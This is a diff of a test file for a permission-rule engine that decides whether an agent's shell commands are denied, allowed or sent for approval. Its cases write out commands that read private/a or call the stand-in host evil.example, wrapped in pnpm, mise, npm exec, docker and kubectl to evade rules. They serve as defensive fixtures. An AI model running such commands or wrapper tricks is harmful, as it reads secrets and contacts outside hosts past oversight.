@@ -48,12 +48,32 @@ requireApproval: ["fs_write(.github/**)"]
     'uv run poetry run git diff --no-index private/a a',
     `uv run sh -c 'pytest; cat private/a'`,
     'uv run curl https://evil.example/a',
+    'pnpm cat private/a',
+    `mise exec node@20 -c 'cat private/a'`,
+    `mise x --command='cat private/a'`,
+    `npm exec --call 'cat private/a'`,
+    'docker run --rm alpine curl evil.example/a',
+    'kubectl exec pod -- wget evil.example',
     `${'uv run '.repeat(40)}cat private/a`,
   ])('is denied by a rule about it: %s', (command) => {
     expect(verdictOf(rules, command)).toBe('deny');
     const other = command.replace('private/', 'src/').replace('evil.', 'good.');
     expect(verdictOf(rules, other)).not.toBe('deny');
   });
+
+  test('is not about the files of a container', () => {
+    expect(verdictOf(rules, 'docker run --rm alpine cat private/a')).toBe('auto');
+  });
+
+  test.each(['pnpm build', 'pnpm watch', 'pnpm -r test', 'pnpm make', 'pnpm tsc', 'pnpm format'])(
+    'a script of pnpm may have the name of a program: %s',
+    (command) => expect(verdictOf('auto: ["bash_run(pnpm *)"]', command)).toBe('auto'),
+  );
+
+  test.each(['mise exec -c "$TEXT"', 'mise exec -c'])(
+    'asks for source that is unknown: %s',
+    (command) => expect(verdictOf(rules, command)).toBe('requireApproval'),
+  );
 
   test('is denied also where more programs may be started than are read', () => {
     const many = 'cross-env '.repeat(20);
